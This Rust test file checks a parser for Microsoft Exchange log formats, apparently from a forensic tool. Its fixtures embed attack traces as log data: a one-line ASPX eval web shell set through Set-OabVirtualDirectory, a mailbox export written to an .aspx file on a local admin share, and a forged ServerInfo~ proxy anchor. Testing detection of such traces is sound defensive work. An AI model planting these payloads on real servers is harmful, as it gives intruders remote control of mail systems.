//! Exchange's logs, small ones written out.

use proptest::prelude::*;

use crate::Format;
use crate::testing::{read, read_at};

/// The control panel's row of a forged address for downloads: quotes of CSV around quotes of the log around a script.
const ECP: &str = "#Software: Microsoft Exchange Server\r\n#Version: 15.0.0.0\r\n#Log-type: ECP Server Log\r\n\
    #Date: 2021-03-03T05:12:41.180Z\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n\
    2021-03-03T05:12:41.180Z,MX01,ECP.Request,\"S:TIME=472;S:SID=66dd74cd;\
    'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script runat=\"\"server\"\">eval(Request[\"\"x\"\"],1);</script>''.Identity=''4e1c''';\
    S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?a=b&schema=OABVirtualDirectory;S:EX=\"\r\n\
    2021-03-03T05:12:42.000Z,MX01,ECP.Request,S:TIME=9;S:CMD=Get-InboxRule;S:URL=/ecp/x\r\n";

#[test]
fn the_control_panels_items_become_columns() {
    let found = read(Format::ExchangeLog, ECP.as_bytes());
    assert_eq!(found.issues, [""; 0]);
    insta::assert_snapshot!(format!("{:#?}", found.rows[0]), @r#"
    {
        "CMD": "Set-OabVirtualDirectory.ExternalUrl='http://f/<script runat=\"server\">eval(Request[\"x\"],1);</script>'.Identity='4e1c'",
        "EX": "",
        "EventData": "S:TIME=472;S:SID=66dd74cd;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script runat=\"server\">eval(Request[\"x\"],1);</script>''.Identity=''4e1c''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?a=b&schema=OABVirtualDirectory;S:EX=",
        "EventId": "ECP.Request",
        "REQID": "",
        "SID": "66dd74cd",
        "ServerName": "MX01",
        "TIME": "472",
        "TimeStamp": "2021-03-03T05:12:41.180Z",
        "URL": "/ecp/DDI/DDIService.svc/SetObject?a=b&schema=OABVirtualDirectory",
        "dataset": "exchange.ecp-server",
        "event_time": "2021-03-03T05:12:41.180000000Z",
        "evidence_id": "E-1",
        "host": "MX01",
        "offset": "167",
        "record": "6",
        "record_hash": "8fec6bcbbd30afc4c2b4a6b3ff78fddf",
        "time_basis": "TimeStamp",
        "time_digits": "3",
    }
    "#);
    assert_eq!(found.columns(&["CMD", "URL", "REQID", "TIME"])[1], "Get-InboxRule | /ecp/x | ~ | 9");
}

#[test]
fn an_item_cannot_name_the_host_or_the_time() {
    let text = "#Log-type: ECP Server Log\n#Fields: TimeStamp,EventData\n2021-03-03T05:12:42.000Z,S:ServerName=evil;S:TimeStamp=1999-01-01T00:00:00Z\n";
    let found = read(Format::ExchangeLog, text.as_bytes());
    assert_eq!(
        found.columns(&["host", "event_time", "time_basis", "ServerName"]),
        ["HINT | 2021-03-03T05:12:42Z | TimeStamp | evil"]
    );
}

#[test]
fn both_header_layouts_give_the_same_rows() {
    let columns = "DateTime,RequestId,Protocol,UrlStem,AnchorMailbox,ServerHostName,HttpStatus";
    let row = "2021-03-03T05:12:31.417Z,c584,Ecp,/ecp/y.js,ServerInfo~a]@srv:444/x?#,MX01,241\r\n";
    let lines = format!(
        "#Software: Microsoft Exchange Server\r\n#Log-type: HttpProxy Logs\r\n#Fields: {columns}\r\n"
    );
    let shown = ["dataset", "event_time", "time_digits", "time_basis", "host", "AnchorMailbox", "HttpStatus"];
    let wanted = "exchange.httpproxy | 2021-03-03T05:12:31.417000000Z | 3 | DateTime | MX01 | ServerInfo~a]@srv:444/x?# | 241";
    for text in [format!("\u{feff}{lines}{row}"), format!("{columns}\r\n{lines}{row}{columns}\r\n")] {
        for size in [1, 1 << 20] {
            let found = read_at(Format::ExchangeLog, text.as_bytes(), "x", size);
            assert_eq!(found.columns(&shown), [wanted]);
            assert_eq!(found.issues, [""; 0]);
        }
    }
    let bare = format!("DateTime,RoutingHint,AnchorMailbox\n{}\n", "2021-03-03T05:12:31.417Z,,x");
    let found = read_at(Format::ExchangeLog, bare.as_bytes(), "x", 1);
    assert_eq!(found.columns(&["dataset", "RoutingHint", "host"]), ["exchange.httpproxy |  | HINT"]);
}

#[test]
fn other_logs_go_by_their_type() {
    let text = "#Software: Microsoft Exchange Server\n#Log-type: Message Tracking Log\n\
                #Fields: date-time,client-ip,server-hostname,event-id\n2021-03-03T05:12:31.417Z,,MX02,RECEIVE\n\
                #Log-type: Odd Log\n#Date: 2021-03-04T00:00:00.000Z\n#Fields: a,,a\nx,y,z\n";
    let found = read(Format::ExchangeLog, text.as_bytes());
    assert_eq!(
        found.columns(&["dataset", "time_basis", "event_time", "host", "column-2", "extra"]),
        [
            "exchange.message-tracking | date-time | 2021-03-03T05:12:31.417000000Z | MX02 | ~ | ~",
            "exchange.other | #Date of the header above it | 2021-03-04T00:00:00Z | HINT | y | a=z",
        ]
    );
}

#[test]
fn rows_that_do_not_fit_are_damage() {
    let found = read(Format::ExchangeLog, b"#Fields: DateTime,a\nx\n1,\"2\n1,2,3\n2021-03-03T00:00:00Z,b\n");
    insta::assert_snapshot!(found.issues.join("\n"), @r"
    exchange-line: line 2 is no Exchange row: the header names 2 values, it has 1; 1 record is lost
    exchange-line: line 3 is no Exchange row: a quote in it is not closed; 1 record is lost
    exchange-line: line 4 is no Exchange row: the header names 2 values, it has 3; 1 record is lost
    ");
    assert_eq!(found.columns(&["a"]), ["b"]);
}

#[test]
fn begin_and_end_of_a_request_are_two_columns() {
    let text = "DateTime,StartTime,RequestId,ClientInfo,UrlQuery,ShellId,CommandName,ServerHostName\r\n#Software: Microsoft Exchange Server\r\n\
        #Log-type: Rps Http Logs\r\n#Fields: DateTime,StartTime,RequestId,ClientInfo,UrlQuery,ShellId,CommandName,ServerHostName\r\n\
        2023-11-20T14:15:43.189Z,2023-11-20T14:15:42.001Z,7c1,Python PSRP Client,?X-Rps-CAT=VgEA,,,MX01\r\n";
    let found = read(Format::ExchangeLog, text.as_bytes());
    assert_eq!(
        found.columns(&["dataset", "event_time", "event.start", "ClientInfo", "host", "RequestId"]),
        [
            "exchange.rps-http | 2023-11-20T14:15:43.189000000Z | 2023-11-20T14:15:42.001Z | Python PSRP Client | MX01 | 7c1"
        ]
    );
    let text = "#Log-type: HttpProxy Logs\n#Fields: DateTime,RequestId,GenericInfo\n\
        2023-01-09T19:00:00.130Z,5e58,BeginRequest=2023-01-09T19:00:00.116Z;CorrelationID=<empty>;EndRequest=x;\n\
        2023-01-09T19:00:01.130Z,5e59,BeginRequest=never\n";
    let found = read(Format::ExchangeLog, text.as_bytes());
    assert_eq!(found.columns(&["RequestId", "event.start"]), ["5e58 | 2023-01-09T19:00:00.116Z", "5e59 | ~"]);
}

#[test]
fn the_audit_logs_object_becomes_columns() {
    let text = "#Log-type: Audit Log\n#Fields: Timestamp,Server,TenantId,RecordType,Data,UserKey,RecordId,Operation\n\
        2021-08-13T10:00:00.000Z,MX01,,1,\"{\"\"Operation\"\":\"\"New-MailboxExportRequest\"\",\"\"ObjectId\"\":\"\"x\"\",\"\"UserId\"\":\"\"contoso.test/Users/a\"\",\
        \"\"Parameters\"\":[{\"\"Name\"\":\"\"FilePath\"\",\"\"Value\"\":\"\"\\\\\\\\127.0.0.1\\\\c$\\\\a.aspx\"\"},{\"\"Name\"\":\"\"Force\"\",\"\"Value\"\":true}]}\",u,r,New-MailboxExportRequest\n\
        2021-08-13T10:00:01.000Z,MX01,,1,no object,u,r,Get-Mailbox\n";
    let found = read(Format::ExchangeLog, text.as_bytes());
    assert_eq!(found.issues, [""; 0]);
    assert_eq!(
        found.columns(&["dataset", "host", "Operation", "ObjectId", "UserId", "Parameters"]),
        [
            r#"exchange.admin-audit | MX01 | New-MailboxExportRequest | x | contoso.test/Users/a | -FilePath "\\127.0.0.1\c$\a.aspx" -Force "true""#,
            "exchange.admin-audit | MX01 | Get-Mailbox | ~ | ~ | ~",
        ]
    );
}

#[test]
fn a_log_for_people_is_kept_as_text() {
    let text = "#Software: Microsoft Exchange Server\r\n#Log-type: OAB Generator Log\r\n#Fields: DateTime,Thread,Text\r\n\
        2021-03-03T05:12:31.417Z,9,Download failed and temporary file 'C:\\inetpub\\x.aspx' needs to be removed\r\n\
        2021-03-03T05:12:32.417Z,9,a,b,c\r\nno time here\r\n";
    let found = read(Format::ExchangeLog, text.as_bytes());
    assert_eq!(
        found.columns(&["dataset", "DateTime", "Text"]),
        [
            "exchange.oab-generator | 2021-03-03T05:12:31.417Z | Download failed and temporary file 'C:\\inetpub\\x.aspx' needs to be removed",
            "exchange.oab-generator | 2021-03-03T05:12:32.417Z | 9,a,b,c",
            "exchange.oab-generator | ~ | no time here",
        ]
    );
}

#[test]
fn a_time_in_a_countrys_form_is_read_and_doubted() {
    let text = "#Log-type: Http Request Filtering Logs\n#Fields: DateTime,ServerHostName,UrlStem,ScanResult\n\
        6/30/2021 10:03:57 PM,SERVER01,/ecp/x.js,Detected\n";
    let found = read(Format::ExchangeLog, text.as_bytes());
    assert_eq!(
        found.columns(&["dataset", "event_time", "time_basis", "ScanResult"]),
        [
            "exchange.http-request-filtering | 2021-06-30T22:03:57Z | DateTime in the server's own form, zone unknown | Detected"
        ]
    );
    assert!(found.issues[0].starts_with("time-zone-unknown"));
}

#[test]
fn a_receive_connector_names_its_server() {
    let text = "#Log-type: SMTP Receive Protocol Log\n\
        #Fields: date-time,connector-id,session-id,sequence-number,local-endpoint,remote-endpoint,event,data,context\n\
        2019-01-25T00:03:58.478Z,TAIL-EXCH-1\\Internet Mail,08D6,0,10.0.0.6:25,185.234.217.220:61061,+,,\n";
    let found = read(Format::ExchangeLog, text.as_bytes());
    assert_eq!(
        found.columns(&["dataset", "host", "remote-endpoint"]),
        ["exchange.smtp-receive | TAIL-EXCH-1 | 185.234.217.220:61061"]
    );
}

fn line() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("DateTime,a,EventData".to_owned()),
        Just("#Fields: DateTime,a,EventData".to_owned()),
        Just("#Fields: time,b".to_owned()),
        Just("#Log-type: ECP Server Log".to_owned()),
        "2021-03-0[1-9]T1[0-9]:00:0[0-9]Z,x,S:A=[a;'\"]{0,6}",
        "[a-c\",']{0,20}",
    ]
}

proptest! {
    #[test]
    fn rows_do_not_depend_on_where_the_file_is_cut(lines in proptest::collection::vec(line(), 0..30), size in 1_usize..200) {
        let text = lines.join("\r\n");
        let whole = read(Format::ExchangeLog, text.as_bytes());
        let cut = read_at(Format::ExchangeLog, text.as_bytes(), "sample", size);
        prop_assert_eq!(whole.rows, cut.rows);
    }

    #[test]
    fn no_bytes_make_it_panic(
        lines in proptest::collection::vec(line(), 0..4),
        rest in proptest::collection::vec(any::<u8>(), 0..200),
        size in 1_usize..200,
    ) {
        let mut bytes = lines.join("\n").into_bytes();
        bytes.extend(rest);
        read_at(Format::ExchangeLog, &bytes, "x", size);
        bytes.splice(..0, [0xff, 0xfe]);
        read_at(Format::ExchangeLog, &bytes, "x", size);
    }
}
